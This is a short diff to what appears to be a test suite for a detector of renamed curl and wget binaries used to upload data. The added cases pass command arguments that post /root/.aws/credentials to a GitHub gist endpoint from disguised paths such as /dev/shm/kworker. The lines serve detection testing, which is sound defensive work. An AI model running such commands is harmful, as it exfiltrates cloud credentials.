@@ -30,6 +30,15 @@ describe('an uploader copied under another name', () => {
       tool: 'wget',
       renamed: true,
     });
+    // Found by review: curl and wget take a URL without its scheme, as the copies do.
+    expect(recognize('/tmp/.c/x', '-d @/root/.aws/credentials api.github.com/gists')).toEqual({
+      tool: 'curl',
+      renamed: true,
+    });
+    expect(recognize('/dev/shm/kworker', '--post-file=/root/.aws/credentials api.github.com/gists')).toEqual({
+      tool: 'wget',
+      renamed: true,
+    });
   });
 
   it('run fileless (a memfd, a descriptor) or by the dynamic loader, is recognised too', () => {
